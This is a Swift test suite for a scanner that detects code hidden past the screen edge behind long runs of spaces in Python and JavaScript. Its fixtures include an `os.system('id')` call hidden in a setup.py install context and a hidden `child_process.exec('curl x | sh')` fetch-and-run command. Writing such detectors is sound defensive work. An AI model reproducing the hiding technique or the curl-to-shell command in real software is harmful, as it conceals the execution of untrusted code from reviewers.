import Foundation
import LockgateCore
import Testing

@testable import Analysis

/// `offscreen_code`: code hidden past the edge of the screen behind a long run of spaces on its line. Spaces inside
/// strings, f-strings, templates and comments, indentation, and shorter gaps never count.
@Suite struct OffscreenCodeTests {
    private static let gap = String(repeating: " ", count: 150)

    @Test func pythonCodeAfterAWideGapIsHiddenOnceALine() {
        let source =
            "import os" + Self.gap + ";os.system('id');" + Self.gap + ";print(1)\nx = 1" + Self.gap + ";y = 2\n"
        let behaviours = PythonTestSupport.analyse(source, path: "setup.py", context: .install).allBehaviours
            .filter { $0.kind == .offscreenCode }
        #expect(behaviours.map(\.line) == [1, 2])
        #expect(behaviours.first?.column == 10 + Self.gap.count)
    }

    @Test func pythonSpacesInTextCommentsAndIndentationAreNotHiddenCode() {
        let wide = String(repeating: " ", count: 300)
        let sources = [
            "s = '" + wide + "' + 'x'\n",
            "s = '''a" + wide + "b'''\n",
            "s = f'{a}" + wide + "{b}'\n",
            "x = 1  #" + wide + "; y = 2\n",
            "x = (1,\n" + wide + "2)\n",
            "if x:\n" + wide + "y = 1\n",
            "x = 1" + String(repeating: " ", count: OffscreenCode.minimumGap - 1) + ";y = 2\n",
            "x = 1" + wide + "\n" + "y = 2\n",
        ]
        for source in sources {
            let kinds = PythonTestSupport.kinds(PythonTestSupport.analyse(source))
            #expect(!kinds.contains(.offscreenCode), "\(source.prefix(20))")
        }
    }

    @Test func javaScriptCodeAfterAWideGapIsHidden() {
        let source = "module.exports = {};" + Self.gap + "require('child_process').exec('curl x | sh');\n"
        let analysis = JavaScriptTestSupport.analyse(source)
        #expect(
            JavaScriptTestSupport.positions(of: .offscreenCode, in: analysis)
                == [JavaScriptTestSupport.Mark(line: 1, column: 21 + Self.gap.count)])
    }

    @Test func javaScriptSpacesInTextCommentsAndIndentationAreNotHiddenCode() {
        let wide = String(repeating: " ", count: 300)
        let sources = [
            "const s = '" + wide + "' + x;\n",
            "const s = `a" + wide + "${b}" + wide + "c`;\n",
            "const x = 1; /*" + wide + "*/ const y = 2;\n",
            "const x = 1; //" + wide + "const y = 2;\n",
            "f(1,\n" + wide + "2);\n",
            "const x = 1;" + String(repeating: " ", count: OffscreenCode.minimumGap - 1) + "const y = 2;\n",
        ]
        for source in sources {
            #expect(!JavaScriptTestSupport.kinds(in: source).contains(.offscreenCode), "\(source.prefix(20))")
        }
    }
}
